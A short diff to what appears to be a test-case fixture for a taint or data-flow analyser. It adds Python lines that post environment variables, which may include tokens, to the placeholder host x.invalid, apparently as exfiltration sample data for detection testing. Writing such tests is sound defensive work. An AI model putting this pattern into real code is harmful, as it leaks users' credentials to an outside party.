@@ -158,7 +158,9 @@ ci = 'GITHUB_TOKEN' in os.environ
 requests.get('https://x.invalid', proxies={'http': proxy}, verify=debug, stream=ci)
 env = os.environ.copy()
 subprocess.run(['make'], env=env)
-subprocess.check_output(['git', 'describe'])`,
+subprocess.check_output(['git', 'describe'])
+from other import wheel_for
+requests.post('https://x.invalid', data=wheel_for('x', env=os.environ))`,
     flows: [],
   },
 ]
